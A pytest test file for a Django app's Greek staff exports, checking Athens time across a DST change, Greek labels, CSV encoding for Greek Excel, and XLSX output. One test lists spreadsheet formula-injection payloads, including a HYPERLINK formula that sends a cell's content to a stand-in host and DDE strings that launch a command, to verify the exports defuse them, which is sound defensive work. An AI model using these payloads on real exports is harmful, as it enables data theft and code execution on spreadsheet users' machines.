"""What staff read: Athens time to the minute across a DST change, labels
instead of raw values, and exports that Greek Excel opens right and that
carry no live formula."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone, translation

from core import exports, staff_values

UTC = datetime.UTC
# Athens leaves summer time at 04:00 on Sunday 25 October 2026.
SUMMER = datetime.datetime(2026, 10, 24, 8, 2, 30, 233528, tzinfo=UTC)
WINTER = datetime.datetime(2026, 10, 26, 8, 2, 30, tzinfo=UTC)


@pytest.fixture(autouse=True)
def greek():
    with translation.override("el"):
        yield


def test_moments_are_athens_time_to_the_minute_on_both_sides_of_dst():
    assert staff_values.display(SUMMER) == "24/10/2026 11:02"
    assert staff_values.display(WINTER) == "26/10/2026 10:02"


def test_moments_stay_athens_time_whatever_zone_is_active():
    with timezone.override("UTC"):
        assert staff_values.display(WINTER) == "26/10/2026 10:02"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, "—"),
        ("", "—"),
        ([], "—"),
        (True, "Ναι"),
        (False, "Όχι"),
        (datetime.date(2026, 12, 25), "25/12/2026"),
        (["α", "β"], "α, β"),
    ],
)
def test_values_are_labels(value, text):
    assert staff_values.display(value) == text


def test_language_codes_are_language_names():
    assert staff_values.language_name("el") == "Ελληνικά"
    assert staff_values.language_name("ar") == "Αραβικά"


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("https://example.invalid/?e="&B2;"Μαρία")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formulas_from_outside_are_text_in_csv_and_xlsx(attack):
    body = exports.csv_bytes(["Όνομα"], [[attack]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + attack

    workbook = openpyxl.load_workbook(
        io.BytesIO(exports.xlsx_bytes(["Όνομα"], [[attack]]))
    )
    cell = workbook.active.cell(row=2, column=1)
    assert cell.data_type == "s"
    # (XML turns a CR into a line feed; what matters is the apostrophe.)
    assert cell.value.startswith("'") and cell.value[1:].strip() == attack.strip()


@pytest.mark.parametrize("phone", ["+30 210 1234567", "+306912345678", "6912345678"])
def test_phone_numbers_stay_as_written(phone):
    body = exports.csv_bytes(["Τηλέφωνο"], [[phone]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == phone


def test_csv_opens_in_greek_excel():
    """Excel on a Greek Windows reads a CSV as cp1253 unless it starts with a
    UTF-8 byte order mark, and splits cells on ";"."""
    body = exports.csv_bytes(["Όνομα", "Εγγραφή"], [["Μαρία", WINTER], ["Ελένη", None]])
    assert body.startswith(b"\xef\xbb\xbf")
    # Read as cp1253 without the BOM, the Greek is garbled: the BOM matters.
    assert "Μαρία" not in body[3:].decode("cp1253", errors="replace")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows == [
        ["Όνομα", "Εγγραφή"],
        ["Μαρία", "26/10/2026 10:02"],
        ["Ελένη", "—"],
    ]


def test_csv_is_comma_separated_for_other_languages():
    with translation.override("en"):
        assert exports.csv_delimiter() == ","


def test_xlsx_times_are_athens_time():
    body = exports.xlsx_bytes(["Εγγραφή"], [[SUMMER], [WINTER]])
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet.cell(row=2, column=1).value.strftime("%d/%m/%Y %H:%M") == (
        "24/10/2026 11:02"
    )
    assert sheet.cell(row=3, column=1).value.strftime("%d/%m/%Y %H:%M") == (
        "26/10/2026 10:02"
    )
